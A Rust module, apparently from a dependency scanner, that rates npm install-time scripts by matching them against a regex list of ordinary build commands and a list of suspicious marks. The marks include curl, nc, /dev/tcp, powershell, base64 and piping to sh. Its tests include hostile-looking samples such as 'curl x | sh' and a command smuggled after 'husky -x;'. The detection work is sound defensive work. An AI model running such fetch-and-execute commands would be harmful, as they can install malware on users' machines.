//! Scripts that npm runs when a package is installed: `preinstall`, `install` and `postinstall`.
//!
//! <https://docs.npmjs.com/cli/v11/using-npm/scripts#life-cycle-scripts>

use std::sync::LazyLock;

use regex::bytes::Regex;
use serde::Deserialize;

use crate::finding::{Certainty, EntryPath, Location, Severity};
use crate::inventory::lenient::{Lenient, Text};

use super::python_hooks::shown;
use super::{Sighting, rules};

/// The scripts of a manifest that run by themselves.
#[derive(Debug, Default, Deserialize)]
pub struct Scripts {
    #[serde(default)]
    preinstall: Text,
    #[serde(default)]
    install: Text,
    #[serde(default)]
    postinstall: Text,
}

/// What honest packages run, one of these or several: they build native code or fetch it built, patch, and ask for
/// money. Each is a whole command.
static ORDINARY: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let commands = [
        r"node-gyp(-build)?( rebuild| configure| build| install)*{options}",
        r"node-pre-gyp install{options}",
        r"prebuild-install{options}( napi| node)?{options}",
        r"pkg-prebuilds-verify \S+",
        r"cmake-js \w+{options}",
        r"napi-postinstall( [\w@/.-]+)*",
        r"husky( install)?( [\w./-]+)?",
        r"patch-package{options}",
        r"opencollective(-postinstall)?",
        r"is-ci",
        r"exit 0",
        r"true",
        r"echo( [^|&;`$<>\n]*)?",
        r"(npm|yarn|pnpm) (run )?[\w:-]+{options}",
        r"node( --harmony| --no-warnings)* [\w./][\w./-]*",
        // To thank, and to run a file that may be missing.
        r#"node -e "console\.log\('[^'`]*'\)""#,
        r#"node -e "try\{require\('\./[\w./-]+'\)\}catch\(e\)\{\}""#,
    ];
    let command = commands
        .join("|")
        .replace("{options}", r"( -[\w=.,:/@-]+)*");
    Regex::new(&format!(
        r"(?-u)^\s*(?:{command})(?:\s*(?:&&|\|\||;)\s*(?:{command}))*\s*$"
    ))
    .ok()
});

/// What no honest package needs: to fetch and run in one go, to run text, or to hide what runs.
static SUSPICIOUS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let marks = [
        r"https?://",
        r"\b(curl|wget|fetch|nc|ncat|certutil|bitsadmin|mshta|Invoke-\w+|iwr|iex)\b",
        r"\b(node|bun|deno|python3?|perl|ruby|php)\s+(-\S+\s+)*(-e|-p|-pe|-c|--eval|--print|eval)\b",
        r"\bpowershell|\bpwsh\b|\bcmd(\.exe)?\s+/c",
        r"\bbase64\b|\batob\b|\beval\b|\bxxd\b",
        r"\|\s*(ba|z|da|k)?sh\b|\b(ba|z|da|k)?sh\s+-c\b",
        r"/dev/tcp/|/tmp/|~/\.|\$HOME\b",
        r"\bchmod\s+(\+x|[0-7]*[1357])",
        r"(\\x[0-9a-f]{2}){4}|(\\u[0-9a-f]{4}){4}",
    ];
    Regex::new(&format!("(?i-u){}", marks.join("|"))).ok()
});

/// What the manifest at `path` has run; `is_own` where it is the project's own.
pub fn install_scripts(path: &EntryPath, scripts: Lenient<Scripts>, is_own: bool) -> Vec<Sighting> {
    let Some(scripts) = scripts.map() else {
        return Vec::new();
    };
    let scripts = [
        ("preinstall", scripts.preinstall),
        ("install", scripts.install),
        ("postinstall", scripts.postinstall),
    ];
    let scripts = scripts.into_iter();
    let scripts = scripts.filter_map(|(when, script)| Some((when, script.text()?)));
    scripts
        .map(|(when, script)| {
            let (severity, certainty) = judge(&script, is_own);
            let detail = format!("{when} is {}", shown(&script));
            Sighting {
                severity,
                certainty,
                ..Sighting::of(&rules::INSTALL_SCRIPT, Location::from(path.clone()), detail)
            }
        })
        .collect()
}

fn judge(script: &str, is_own: bool) -> (Severity, Certainty) {
    let is = |rule: &Option<Regex>| {
        rule.as_ref()
            .is_some_and(|rule| rule.is_match(script.as_bytes()))
    };
    match () {
        () if is(&ORDINARY) => (Severity::Info, Certainty::Certain),
        () if is(&SUSPICIOUS) => (Severity::High, Certainty::Certain),
        () if is_own => (Severity::Info, Certainty::Certain),
        () => (Severity::Low, Certainty::Possible),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_honest_packages_run_is_ordinary_and_what_fetches_and_runs_is_not() {
        for (script, expected) in [
            ("node-gyp rebuild", Severity::Info),
            (
                "prebuild-install || node-gyp rebuild --release",
                Severity::Info,
            ),
            ("node-gyp-build", Severity::Info),
            ("node install/check", Severity::Info),
            ("node ./postinstall.js || exit 0", Severity::Info),
            ("husky install", Severity::Info),
            ("is-ci || husky", Severity::Info),
            ("patch-package && npm run build", Severity::Info),
            ("echo \"thank you\"", Severity::Info),
            ("node --harmony ./postinstall.js", Severity::Info),
            (
                "node -e \"console.log('\\u001b[35mthanks\\u001b[0m (https://a.example)')\"",
                Severity::Info,
            ),
            (
                "node -e \"try{require('./postinstall')}catch(e){}\"",
                Severity::Info,
            ),
            ("husky -x;curl${IFS}a|sh", Severity::High),
            ("node -e \"console.log('a');fetch('b')\"", Severity::High),
            ("./configure", Severity::Low),
            ("node install.js extra", Severity::Low),
            ("node install.js & sh x", Severity::Low),
            ("curl -o x https://x.example/x", Severity::High),
            ("CURL x", Severity::High),
            ("node -e \"1\"", Severity::High),
            ("node --eval 1", Severity::High),
            ("python3 -c 'import os'", Severity::High),
            ("powershell.exe -enc AAAA", Severity::High),
            ("cat x | sh", Severity::High),
            ("echo x | base64 -d", Severity::High),
            ("chmod +x bin/a && bin/a", Severity::High),
        ] {
            assert_eq!(judge(script, false).0, expected, "{script}");
        }
        assert_eq!(judge("make tables", true).0, Severity::Info);
        assert_eq!(judge("curl x | sh", true).0, Severity::High);
    }
}
